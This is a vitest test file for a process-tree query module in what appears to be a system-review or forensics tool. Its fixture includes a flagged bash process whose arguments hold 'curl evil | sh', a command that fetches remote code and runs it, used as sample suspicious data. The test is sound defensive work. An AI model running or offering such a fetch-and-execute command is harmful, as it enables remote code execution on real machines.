import { describe, expect, it } from 'vitest';
import type { ProcessRow, ProcessWindowQuery, SocketRecord } from '../../../../preload/api';
import { buildProcessIndex } from '../../../../main/review/process-index';
import { createProcessQueryCache, queryProcessWindow } from '../../../../main/review/process-query';

function row(pid: number, ppid: number, name: string, extra: Partial<ProcessRow> = {}): ProcessRow {
  return {
    record: pid,
    pid,
    ppid,
    name: { text: name },
    user: 'root',
    uid: 0,
    state: 'S',
    exe: { text: `/usr/bin/${name}` },
    exeDeleted: false,
    argv: [{ text: name }],
    startedAt: null,
    threads: 1,
    rssKiB: pid,
    cpuSeconds: 0,
    flags: [],
    ...extra,
  };
}

const rows = [
  row(1, 0, 'systemd'),
  row(10, 1, 'nginx', { user: 'www-data' }),
  row(11, 10, 'nginx-worker', { user: 'www-data', rssKiB: 5 }),
  row(12, 10, 'nginx-worker', { user: 'www-data', rssKiB: 500 }),
  row(20, 1, 'sshd'),
  row(21, 20, 'bash', { flags: ['odd-shell'], argv: [{ text: 'bash' }, { text: '-c' }, { text: 'curl evil | sh' }] }),
  // A parent cycle from hostile data: the cycle is cut where the walk meets it, and both still show.
  row(30, 31, 'loop-a'),
  row(31, 30, 'loop-b'),
];
const sockets: SocketRecord[] = [
  { protocol: 'tcp', state: 'LISTEN', localAddress: { text: '0.0.0.0' }, localPort: 80, remoteAddress: null, remotePort: null, pid: 10 },
];

const base: ProcessWindowQuery = {
  handle: 'h',
  search: '',
  regex: false,
  filters: {},
  sort: { key: 'pid', descending: false },
  mode: 'tree',
  collapsed: [],
  offset: 0,
  limit: 100,
};

function query(change: Partial<ProcessWindowQuery>) {
  const index = buildProcessIndex(rows, sockets);
  return queryProcessWindow(index, createProcessQueryCache(), { ...base, ...change });
}

const pids = (window: ReturnType<typeof query>) => window.rows.map((entry) => entry.process.pid);

describe('queryProcessWindow', () => {
  it('nests children under parents in tree order, with depth', () => {
    const window = query({});
    expect(pids(window)).toEqual([1, 10, 11, 12, 20, 21, 31, 30]);
    expect(window.rows.map((entry) => entry.depth)).toEqual([0, 1, 2, 2, 1, 2, 0, 1]);
    expect(window.total).toBe(8);
    expect(window.rows[1]).toMatchObject({ hasChildren: true, expanded: true, listening: true });
  });

  it('hides the children of a collapsed process', () => {
    const window = query({ collapsed: [10] });
    expect(pids(window)).toEqual([1, 10, 20, 21, 31, 30]);
    expect(window.rows[1]).toMatchObject({ expanded: false, hasChildren: true });
  });

  it('sorts siblings in tree mode and every row in flat mode', () => {
    const flat = query({ mode: 'flat', sort: { key: 'rss', descending: true } });
    expect(pids(flat)).toEqual([12, 31, 30, 21, 20, 10, 11, 1]);
    expect(flat.rows.every((entry) => entry.depth === 0 && !entry.hasChildren)).toBe(true);
    const tree = query({ sort: { key: 'rss', descending: true } });
    const workers = pids(tree).filter((pid) => pid === 11 || pid === 12);
    expect(workers).toEqual([12, 11]);
  });

  it('searches name, argv, pid and user, keeping ancestors as context', () => {
    const window = query({ search: 'curl' });
    expect(pids(window)).toEqual([1, 20, 21]);
    expect(window.rows.map((entry) => entry.matches)).toEqual([false, false, true]);
    expect(window.matching).toBe(1);
    expect(pids(query({ search: 'www-data', mode: 'flat' }))).toEqual([10, 11, 12]);
    expect(pids(query({ search: '21', mode: 'flat' }))).toEqual([21]);
  });

  it('filters by flag, user and listening socket', () => {
    expect(pids(query({ filters: { flaggedOnly: true }, mode: 'flat' }))).toEqual([21]);
    expect(pids(query({ filters: { user: 'www-data' }, mode: 'flat' }))).toEqual([10, 11, 12]);
    expect(pids(query({ filters: { listeningOnly: true } }))).toEqual([1, 10]);
  });

  it('reports an invalid regex inline and leaves the rows unfiltered by it', () => {
    const window = query({ search: '([', regex: true });
    expect(window.searchError).toMatch(/not a valid regular expression/i);
    expect(window.total).toBe(8);
    expect(pids(query({ search: '^nginx-w', regex: true, mode: 'flat' }))).toEqual([11, 12]);
  });

  it('returns windows of the same result and locates a pid', () => {
    const window = query({ offset: 2, limit: 3, locatePid: 21 });
    expect(pids(window)).toEqual([11, 12, 20]);
    expect(window.offset).toBe(2);
    expect(window.total).toBe(8);
    expect(window.locatedIndex).toBe(5);
    expect(query({ collapsed: [20], locatePid: 21 }).locatedIndex).toBeNull();
  });
});

describe('search text', () => {
  it('keeps the pid and user searchable behind a huge name', () => {
    const huge = [row(7, 0, 'x'.repeat(100_000), { user: 'mallory' })];
    const index = buildProcessIndex(huge, []);
    const window = queryProcessWindow(index, createProcessQueryCache(), { ...base, search: '7 mallory' });
    expect(window.matching).toBe(1);
  });
});
